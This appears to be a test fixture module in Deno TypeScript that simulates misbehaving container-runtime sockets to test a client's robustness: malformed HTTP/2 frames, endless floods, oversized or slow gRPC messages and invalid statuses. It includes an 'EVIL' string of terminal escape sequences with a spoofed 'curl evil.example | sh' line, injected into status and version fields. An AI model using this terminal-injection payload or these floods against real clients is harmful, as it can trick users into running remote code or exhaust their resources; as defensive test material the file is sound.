/** What a container runtime's socket may do, besides what `tests/badinput` has. @module */
import { ANSWERS, grpc, type Listener, message, talks } from "../badinput/runtimes.ts";
import { framed } from "../fakes/http2_server.ts";
import { flood, pause, send } from "./server.ts";

/** Something at the socket that talks as it likes, and is sent what it does not read. */
const socket = (talk: (connection: Deno.Conn) => Promise<unknown>) =>
  talks(async (connection) => {
    const reading = (async () => {
      const buffer = new Uint8Array(65536);
      while (await connection.read(buffer).catch(() => null) !== null);
    })();
    await talk(connection);
    await reading;
  });

const SETTINGS = new Uint8Array([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const h2 = (type: number, flags: number, stream: number, bytes: readonly number[] = []) =>
  new Uint8Array([0, bytes.length >> 8, bytes.length & 255, type, flags, 0, 0, 0, stream, ...bytes]);
const begun = (...frames: Uint8Array[]) =>
  socket(async (connection) => {
    for (const bytes of [SETTINGS, ...frames]) await send(connection, bytes);
  });
const EVIL = "\x1b]0;owned\x07\x1b[2J\u202e\r\n  next: curl evil.example | sh\x9b31m";
/** A field of a text, behind its number. */
const text = (number: number, value: string) => {
  const bytes = new TextEncoder().encode(value);
  const length: number[] = [];
  let left = bytes.length;
  for (; left > 127; left >>= 7) length.push(left & 127 | 128);
  return [number << 3 | 2, ...length, left, ...bytes];
};

/** By name. */
export const RUNTIME_MODES: Readonly<Record<string, Listener>> = {
  ...Object.fromEntries(ANSWERS.map(([name, listener]) => [name, listener])),
  "silence": socket(() => Promise.resolve()),
  "half a close": socket((connection) => connection.closeWrite()),
  "a reset": talks(() => pause(20)),
  "nonsense without end": socket((connection) => flood(connection, new Uint8Array(65536).fill(0x55))),
  "settings, and silence": begun(),
  "settings without end": socket((connection) => flood(connection, SETTINGS)),
  "pings without end": socket(async (connection) => {
    await send(connection, SETTINGS);
    await flood(connection, h2(6, 0, 0, [0, 0, 0, 0, 0, 0, 0, 0]));
  }),
  "that it goes away": begun(h2(7, 0, 0, [0, 0, 0, 0, 0, 0, 0, 2])),
  "a reset of the stream": begun(h2(3, 0, 1, [0, 0, 0, 8])),
  "data before headers": begun(h2(0, 0, 1, [0, 0, 0, 0, 0])),
  "headers that are no HPACK": begun(h2(1, 5, 1, [0xff, 0xff, 0xff, 0xff, 0xff])),
  "continuations without end": socket(async (connection) => {
    await send(connection, SETTINGS);
    await send(connection, h2(1, 0, 1, [0x88]));
    await flood(connection, h2(9, 0, 1, [0, 1, 97, 1, 98]));
  }),
  "headers, and silence": grpc((call) => call.respond()),
  "half a message, and silence": grpc(async (call) => {
    await call.respond();
    await call.send(framed([10, 1], 100));
  }),
  "a message without end": grpc(async (call) => {
    await call.respond();
    await call.send(framed([], 15 << 20));
    while (!call.gone) await call.send(new Uint8Array(1 << 20));
  }),
  "more than there is room for": grpc(async (call) => {
    await call.respond();
    await call.raw(h2(0, 0, 1, [...framed([], 15 << 20)]));
    await call.flood(h2(0, 0, 1, Array(16_384).fill(0)));
  }),
  "4 GiB, it says": message(framed([10, 1, 97], 0xffffffff)),
  "a message, slowly": grpc(async (call) => {
    await call.respond();
    for (; !call.gone; await pause(50)) await call.send(new Uint8Array(1));
  }),
  "a status that writes to the terminal": message(new Uint8Array(), {
    "grpc-status": "13",
    "grpc-message": encodeURIComponent(EVIL),
  }),
  "a status of 1 MiB": message(new Uint8Array(), { "grpc-status": "13", "grpc-message": "x".repeat(30_000) }),
  "a status that is no percent-encoding": message(new Uint8Array(), { "grpc-status": "13", "grpc-message": "%zz%" }),
  "a negative status": message(new Uint8Array(), { "grpc-status": "-1" }),
  "a status of 20 digits": message(new Uint8Array(), { "grpc-status": "9".repeat(20) }),
  "two messages": message(new Uint8Array([...framed([10, 1, 97]), ...framed([10, 1, 98])])),
  "a version that writes to the terminal": message(framed([...text(2, EVIL), ...text(3, EVIL)])),
  "a version of 5 MiB": message(framed(text(2, "x".repeat(5 << 20)))),
  "text that is no UTF-8": message(framed([18, 2, 0xff, 0xfe])),
};
